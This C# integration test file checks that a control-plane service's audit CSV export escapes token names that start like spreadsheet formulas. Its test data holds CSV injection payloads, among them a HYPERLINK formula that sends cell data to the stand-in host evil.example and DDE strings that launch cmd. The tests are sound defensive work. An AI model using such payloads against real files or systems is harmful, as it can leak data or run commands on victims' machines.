using System.Net;
using System.Net.Http.Json;
using ControlPlane.IntegrationTests.Infrastructure;

namespace ControlPlane.IntegrationTests.Audit;

/// <summary>The audit CSV is opened in spreadsheets: text a person typed must never arrive there as a formula.</summary>
public sealed class CsvExportInjectionTests(PostgresFixture postgres) : IAsyncLifetime
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private ControlPlaneAppFactory _factory = null!;

    public async ValueTask InitializeAsync() => _factory = await ControlPlaneAppFactory.StartAsync(postgres);
    public async ValueTask DisposeAsync() => await _factory.DisposeAsync();

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    public async Task A_cell_that_starts_like_a_formula_is_exported_as_text(string name)
    {
        // The token's name becomes the actor of what it does; the second token's creation is recorded under it.
        using var admin = _factory.Admin();
        var created = await admin.PostAsJsonAsync("/api/v1/tokens", new { name, role = "Admin" }, Ct);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        using var formula = _factory.ClientWithToken((await created.JsonAsync()).GetProperty("token").GetString());
        Assert.Equal(HttpStatusCode.Created, (await formula.PostAsJsonAsync("/api/v1/tokens", new { name = "made-by-formula", role = "Viewer" }, Ct)).StatusCode);

        var csv = await admin.GetStringAsync("/api/v1/audit/export?format=csv&action=token.created", Ct);
        var actors = Rows(csv).Skip(1).Select(r => r[2]).ToList();
        Assert.Contains("'" + name, actors);
        Assert.DoesNotContain(actors, a => a.Length > 0 && "=+-@\t\r".Contains(a[0]));
    }

    /// <summary>Minimal RFC 4180 reader: quoted fields, doubled quotes, CRLF records.</summary>
    private static List<List<string>> Rows(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n') { row.Add(field.ToString()); field.Clear(); rows.Add(row); row = []; i++; }
            else field.Append(c);
        }
        if (field.Length > 0 || row.Count > 0) { row.Add(field.ToString()); rows.Add(row); }
        return rows;
    }
}
